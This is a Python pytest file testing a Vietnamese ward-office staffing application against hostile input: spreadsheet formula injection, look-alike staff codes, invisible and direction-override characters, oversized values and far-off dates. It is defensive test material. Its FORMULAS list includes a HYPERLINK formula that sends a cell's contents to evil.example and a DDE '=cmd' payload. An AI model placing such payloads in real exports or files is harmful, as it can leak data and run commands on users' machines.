"""What a clerk or a file can type, used against the book: formulas reaching a spreadsheet, look-alike
staff codes and names, invisible and direction-changing characters, oversized values, dates centuries off,
and a huge file of bad rows. Each test is an attack that once succeeded."""

from __future__ import annotations

import csv
import dataclasses
import io
import shutil
import sqlite3
import unicodedata
from collections.abc import Iterator
from datetime import date, datetime
from pathlib import Path

import pytest
from openpyxl import load_workbook

from ward_office import cli
from ward_office.core.checks import Check, CheckKind, Event
from ward_office.core.errors import InputFileError, WardOfficeError
from ward_office.core.staff import Gender, Staff, StaffCategory
from ward_office.services import event_log, staff_admin
from ward_office.services.change_log import ChangeFilter, export_change_log
from ward_office.services.demo import build_demo
from ward_office.services.export import export
from ward_office.services.imports import import_events, import_staff
from ward_office.services.staff_admin import StaffFieldError
from ward_office.services.ward import Ward, in_own_ward
from ward_office.storage import Store

pytestmark = pytest.mark.usefixtures("vietnamese")

TODAY = date(2026, 11, 20)
PERIOD = "2026-10"
# A formula behind each character a spreadsheet starts a formula with, as found in the attack.
FORMULAS = ('=HYPERLINK("http://evil.example/?x="&A1,"click")', "=cmd|' /C calc'!A0", "+1+1", "-2+3*cmd",
            "@SUM(1+1)*cmd", "\t=1+1", "\r=1")
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
RLO = "\u202e"


@pytest.fixture(scope="module")
def demo_book(tmp_path_factory: pytest.TempPathFactory) -> Path:
    path = tmp_path_factory.mktemp("attack") / "demo.db"
    build_demo(path, staff=10, months=3, seed=7, until=TODAY)
    return path


@pytest.fixture(scope="module")
def planted_book(demo_book: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The demo with a formula in a staff name, an event note and the change log, one per dangerous start.

    Names and notes are written straight into the file, as an older version (or another program) could have
    left them: what comes out of every export must still be inert."""
    path = tmp_path_factory.mktemp("planted") / "book.db"
    shutil.copy(demo_book, path)
    with Store.open(path) as store:
        people = store.staff.list()
        code = next(iter(store.plans.in_effect(date(2026, 10, 6))[1].criteria))
        for formula, person in zip(FORMULAS, people, strict=False):  # logged changes with a formula in them
            store.staff.update(dataclasses.replace(person, note="@" + person.code), formula.strip())
            assert person.id is not None
            store.events.add(Event(person.id, date(2026, 10, 6), code, note="planted"), "Văn thư")
    connection = sqlite3.connect(path)
    with connection:
        staff_ids = [row[0] for row in connection.execute("SELECT id FROM staff ORDER BY code")]
        for formula, staff_id in zip(FORMULAS, staff_ids, strict=False):
            connection.execute("UPDATE staff SET full_name = ? WHERE id = ?", (formula, staff_id))
        event_ids = [row[0] for row in connection.execute(
            "SELECT id FROM events WHERE note = 'planted' ORDER BY id")]
        assert len(event_ids) >= len(FORMULAS)
        for formula, event_id in zip(FORMULAS, event_ids, strict=False):
            connection.execute("UPDATE events SET note = ? WHERE id = ?", (formula, event_id))
    connection.close()
    return path


def assert_no_formula(path: Path) -> None:
    workbook = load_workbook(path)
    texts = []
    for worksheet in workbook.worksheets:
        for row in worksheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{worksheet.title}!{cell.coordinate} is a formula: {cell.value!r}"
                if isinstance(cell.value, str):
                    texts.append(cell.value)
    assert any("HYPERLINK" in text for text in texts) or any("cmd" in text for text in texts), \
        "the planted text should be in the workbook"


def is_number(field: str) -> bool:
    try:
        float(field)
    except ValueError:
        return False
    return True


def assert_csv_inert(text: str) -> None:
    fields = [field for row in csv.reader(io.StringIO(text)) for field in row]
    for field in fields:
        assert not field.startswith(DANGEROUS) or is_number(field), f"dangerous CSV field {field!r}"
    assert any(field.startswith("'=") or field.startswith("'+") or field.startswith("'@") for field in fields)


@pytest.mark.parametrize("kind", ["ranking", "items", "timesheet"])
def test_no_export_carries_a_formula(planted_book: Path, tmp_path: Path, kind: str) -> None:
    out = tmp_path / f"{kind}.xlsx"
    in_own_ward(planted_book, lambda ward: export(ward, kind, PERIOD, out, today=TODAY), read_only=True)
    assert_no_formula(out)


def test_change_log_workbook_carries_no_formula(planted_book: Path, tmp_path: Path) -> None:
    out = tmp_path / "log.xlsx"
    at = datetime(2026, 11, 20, 9, 0)
    in_own_ward(planted_book, lambda ward: export_change_log(ward, ChangeFilter(), out, now=at), read_only=True)
    assert_no_formula(out)


def test_change_log_csv_fields_cannot_start_a_formula(planted_book: Path, tmp_path: Path) -> None:
    out = tmp_path / "log.csv"
    at = datetime(2026, 11, 20, 9, 0)
    in_own_ward(planted_book, lambda ward: export_change_log(ward, ChangeFilter(), out, now=at), read_only=True)
    assert_csv_inert(out.read_text(encoding="utf-8-sig"))


def test_score_csv_escapes_text_and_keeps_negative_numbers(planted_book: Path,
                                                           capsys: pytest.CaptureFixture[str]) -> None:
    assert cli.main(["score", "--db", str(planted_book), "--period", PERIOD, "--format", "csv"]) == 0
    text = capsys.readouterr().out
    assert_csv_inert(text)
    rows = list(csv.reader(io.StringIO(text)))
    names = {row[2] for row in rows[1:]}
    assert "'=cmd|' /C calc'!A0" in names and "'\t=1+1" in names and "'\r=1" in names
    assert all(is_number(row[5]) for row in rows[1:])  # the score stays a number, "-1.50" included


# ---- Look-alike people ----


@pytest.fixture
def ward(tmp_path: Path) -> Iterator[Ward]:
    with Ward.open(tmp_path / "ward.db", actor="Văn thư") as opened:
        yield opened


def person(ward: Ward, code: str = "CB001", **changes: object) -> Staff:
    values: dict[str, object] = {
        "code": code, "full_name": "Nguyễn Văn An", "gender": Gender.MALE, "position": "Chuyên viên",
        "category": StaffCategory.CONG_CHUC, "department_id": ward.departments()[0].id,
        "active_from": date(2020, 1, 1),
    }
    values.update(changes)
    return Staff(**values)  # type: ignore[arg-type]


def test_storage_refuses_a_code_differing_only_in_case(ward: Ward) -> None:
    ward.store.staff.add(person(ward), "Văn thư")
    with pytest.raises(WardOfficeError) as refused:
        ward.store.staff.add(person(ward, "cb001", full_name="Kẻ Giả Mạo"), "Văn thư")
    assert "Nguyễn Văn An" in refused.value.localized()
    assert [p.code for p in ward.store.staff.list()] == ["CB001"]


def write_csv(path: Path, header: str, lines: list[str]) -> Path:
    path.write_text("\n".join([header, *lines]) + "\n", encoding="utf-8")
    return path


STAFF_HEADER = "code,full_name,gender,position,department,active_from"


def test_staff_import_refuses_a_code_differing_only_in_case(ward: Ward, tmp_path: Path) -> None:
    staff_admin.add_staff(ward, person(ward))
    file = write_csv(tmp_path / "staff.csv", STAFF_HEADER, ["cb001,Kẻ Giả Mạo,Nam,Chuyên viên,Văn phòng,01/01/2020"])
    with pytest.raises(InputFileError) as refused:
        in_own_ward(ward.path, lambda ward: import_staff(ward, file))
    assert "Nguyễn Văn An" in refused.value.localized() and "CB001" in refused.value.localized()
    assert [p.code for p in ward.store.staff.list()] == ["CB001"]


@pytest.mark.parametrize("invisible", ["\u200b", "\u200c", "\u200d", "\u2060", "\ufeff"])
def test_a_code_with_an_invisible_character_is_the_same_code(ward: Ward, invisible: str) -> None:
    staff_admin.add_staff(ward, person(ward))
    with pytest.raises(StaffFieldError) as refused:
        staff_admin.add_staff(ward, person(ward, f"CB0{invisible}01", full_name="Kẻ Giả Mạo"))
    assert refused.value.field == "code"
    stored = ward.store.staff.add(person(ward, f"CB002{invisible}"), "Văn thư")
    assert ward.store.staff.get(stored.id).code == "CB002"


def test_import_strips_invisible_characters_from_codes(ward: Ward, tmp_path: Path) -> None:
    staff_admin.add_staff(ward, person(ward))
    file = write_csv(tmp_path / "staff.csv", STAFF_HEADER,
                     ["CB001\u200b,Kẻ Giả Mạo,Nam,Chuyên viên,Văn phòng,01/01/2020"])
    in_own_ward(ward.path, lambda ward: import_staff(ward, file))  # the same person, updated: no second CB001
    assert [(p.code, p.full_name) for p in ward.store.staff.list()] == [("CB001", "Kẻ Giả Mạo")]


def test_a_decomposed_name_is_stored_composed(ward: Ward) -> None:
    decomposed = unicodedata.normalize("NFD", "Nguyễn Thị Ánh")
    added = staff_admin.add_staff(ward, person(ward, full_name=decomposed))
    assert ward.store.staff.get(added.id).full_name == "Nguyễn Thị Ánh"
    direct = ward.store.staff.add(person(ward, "CB002", full_name=decomposed), "Văn thư")
    assert ward.store.staff.get(direct.id).full_name == "Nguyễn Thị Ánh"


@pytest.mark.parametrize("field", ["full_name", "position", "code", "note", "badge_number"])
def test_direction_overrides_are_refused_in_staff_fields(ward: Ward, field: str) -> None:
    value = {"full_name": f"Nguyễn {RLO}nA", "position": f"Chuyên {RLO}viên", "code": f"CB{RLO}009",
             "note": f"ghi {RLO}chú", "badge_number": f"T{RLO}1"}[field]
    with pytest.raises(StaffFieldError) as refused:
        staff_admin.add_staff(ward, person(ward, **{field: value}))
    assert refused.value.field == field
    assert "ký tự đổi chiều" in refused.value.localized()
    with pytest.raises(WardOfficeError):
        ward.store.staff.add(person(ward, **{field: value}), "Văn thư")
    assert ward.store.staff.list() == []


def test_direction_overrides_are_refused_in_event_notes_and_check_locations(demo_book: Path,
                                                                           tmp_path: Path) -> None:
    path = tmp_path / "book.db"
    shutil.copy(demo_book, path)
    with Ward.open(path, actor="Văn thư") as ward:
        someone = ward.store.staff.list()[0]
        assert someone.id is not None
        code = next(iter(ward.plan_on(date(2026, 11, 2)).criteria))
        with pytest.raises(WardOfficeError) as refused:
            event_log.add_event(ward, someone.id, date(2026, 11, 2), code, f"đi muộn {RLO}", today=TODAY)
        assert "Ghi chú" in refused.value.localized() or "ghi chú" in refused.value.localized()
        with pytest.raises(WardOfficeError):
            ward.store.events.add(Event(someone.id, date(2026, 11, 2), code, note=f"x{RLO}y"), "Văn thư")
        with pytest.raises(WardOfficeError):
            ward.store.checks.add(Check(datetime(2026, 11, 2, 8), CheckKind.BADGE, "Văn thư",
                                        location=f"Phòng {RLO}1"), "Văn thư")


def test_direction_overrides_are_refused_in_imported_events(demo_book: Path, tmp_path: Path) -> None:
    path = tmp_path / "book.db"
    shutil.copy(demo_book, path)
    with Ward.open(path, read_only=True) as ward:
        someone = ward.store.staff.list()[0]
        code = next(iter(ward.plan_on(date(2026, 11, 2)).criteria))
        clerk = ward.store.accounts.get_by_username("vanthu")  # the demo book has accounts: imports are signed
    file = write_csv(tmp_path / "events.csv", "date,staff_code,criterion,note",
                     [f"02/11/2026,{someone.code},{code},đi {RLO}muộn"])
    with pytest.raises(InputFileError) as refused:
        in_own_ward(path, lambda ward: import_events(ward, file), account=clerk)
    assert "ký tự đổi chiều" in refused.value.localized()


# ---- Sizes and dates ----


def test_names_and_notes_have_a_length_limit(ward: Ward) -> None:
    staff_admin.add_staff(ward, person(ward, full_name="A" * 100))
    with pytest.raises(StaffFieldError) as refused:
        staff_admin.add_staff(ward, person(ward, "CB002", full_name="A" * 101))
    assert refused.value.field == "full_name" and "100" in refused.value.localized()
    with pytest.raises(WardOfficeError):
        ward.store.staff.add(person(ward, "CB003", full_name="A" * 131_072), "Văn thư")
    with pytest.raises(StaffFieldError):
        staff_admin.add_staff(ward, person(ward, "CB004", note="x" * 1001))


def test_imported_names_have_a_length_limit(ward: Ward, tmp_path: Path) -> None:
    file = write_csv(tmp_path / "staff.csv", STAFF_HEADER,
                     [f"CB001,{'A' * 131_072},Nam,Chuyên viên,Văn phòng,01/01/2020"])
    with pytest.raises(InputFileError) as refused:
        in_own_ward(ward.path, lambda ward: import_staff(ward, file))
    assert "100" in refused.value.localized()


def test_event_notes_have_a_length_limit(demo_book: Path, tmp_path: Path) -> None:
    path = tmp_path / "book.db"
    shutil.copy(demo_book, path)
    with Ward.open(path, actor="Văn thư") as ward:
        someone = ward.store.staff.list()[0]
        assert someone.id is not None
        code = next(iter(ward.plan_on(date(2026, 11, 2)).criteria))
        with pytest.raises(WardOfficeError) as refused:
            event_log.add_event(ward, someone.id, date(2026, 11, 2), code, "x" * 1001, today=TODAY)
        assert "1.000" in refused.value.localized() or "1000" in refused.value.localized()
        event_log.add_event(ward, someone.id, date(2026, 11, 2), code, "x" * 1000, today=TODAY)


@pytest.mark.parametrize("day", [date(2999, 12, 31), date(1999, 12, 31), date(1900, 1, 1)])
def test_events_far_from_today_are_refused(demo_book: Path, tmp_path: Path, day: date) -> None:
    path = tmp_path / "book.db"
    shutil.copy(demo_book, path)
    with Ward.open(path, read_only=True) as ward:
        someone = ward.store.staff.list()[0]
        code = next(iter(ward.plan_on(date(2026, 11, 2)).criteria))
        clerk = ward.store.accounts.get_by_username("vanthu")  # the demo book has accounts: imports are signed
    file = write_csv(tmp_path / "events.csv", "date,staff_code,criterion,note",
                     [f"{day.strftime('%d/%m/%Y')},{someone.code},{code},"])
    with Store.open(path) as store:  # nobody's working days stop the file: only the date's range may
        store.db.execute("UPDATE staff SET active_from = NULL, active_to = NULL")
    with pytest.raises(InputFileError) as refused:
        in_own_ward(path, lambda ward: import_events(ward, file), account=clerk)
    assert "01/01/2000" in refused.value.localized()
    with Store.open(path) as store, pytest.raises(WardOfficeError):
        assert someone.id is not None
        store.events.add(Event(someone.id, day, code), "Văn thư")


def test_start_dates_far_from_today_are_refused(ward: Ward, tmp_path: Path) -> None:
    file = write_csv(tmp_path / "staff.csv", STAFF_HEADER, ["CB001,Nguyễn Văn An,Nam,Chuyên viên,Văn phòng,01/01/1900"])
    with pytest.raises(InputFileError) as refused:
        in_own_ward(ward.path, lambda ward: import_staff(ward, file))
    assert "01/01/2000" in refused.value.localized()
    with pytest.raises(StaffFieldError) as typed:
        staff_admin.add_staff(ward, person(ward, active_from=date(1900, 1, 1)))
    assert typed.value.field == "active_from"
    with pytest.raises(StaffFieldError):
        staff_admin.add_staff(ward, person(ward, active_to=date(2999, 12, 31)))


def test_a_file_of_many_bad_rows_lists_the_first_hundred_and_counts_them_all(ward: Ward, tmp_path: Path) -> None:
    file = write_csv(tmp_path / "events.csv", "date,staff_code,criterion,note",
                     [f"not a day {line},X{line},Y,=1+1" for line in range(20_000)])
    with pytest.raises(InputFileError) as refused:
        in_own_ward(ward.path, lambda ward: import_events(ward, file))
    error = refused.value
    assert len(error.problems) == 100
    assert error.total == 20_000
    text = error.localized()
    assert "20000" in text.replace(".", "") and len(text.splitlines()) <= 102


def test_a_book_already_holding_look_alike_codes_names_them_and_still_edits(ward: Ward) -> None:
    """Written before codes were compared whatever their case: nobody is renamed, both can still be corrected,
    and no third look-alike is let in."""
    first = ward.store.staff.add(person(ward), "Văn thư")
    ward.store.db.execute(
        "INSERT INTO staff (code, full_name, gender, position, category, department_id, badge_number, clock_id,"
        " active_from, active_to, note) SELECT 'cb001', 'Trần Thị Bình', gender, position, category, department_id,"
        " '', '', active_from, active_to, '' FROM staff WHERE id = ?", (first.id,))
    clashes = ward.store.staff.code_clashes()
    assert [(a.code, b.code) for a, b in clashes] == [("CB001", "cb001")]
    second = clashes[0][1]
    staff_admin.update_staff(ward, dataclasses.replace(second, position="Văn thư"))
    assert ward.store.staff.get(second.id).position == "Văn thư"
    with pytest.raises(WardOfficeError):
        ward.store.staff.add(person(ward, "Cb001"), "Văn thư")


def test_an_import_summary_names_a_hundred_skipped_lines_and_counts_the_rest(tmp_path: Path) -> None:
    from ward_office.importers.csv_files import NO_DATA, SkippedRow
    from ward_office.services.imports import ImportSummary

    summary = ImportSummary(tmp_path / "x.csv", 0, 0, skipped=tuple(SkippedRow(line, NO_DATA)
                                                                    for line in range(2, 252)))
    text = summary.localized()
    assert "Bỏ qua 250" in text or "250" in text
    assert ", 101 và 150 dòng khác" in text and ", 102" not in text
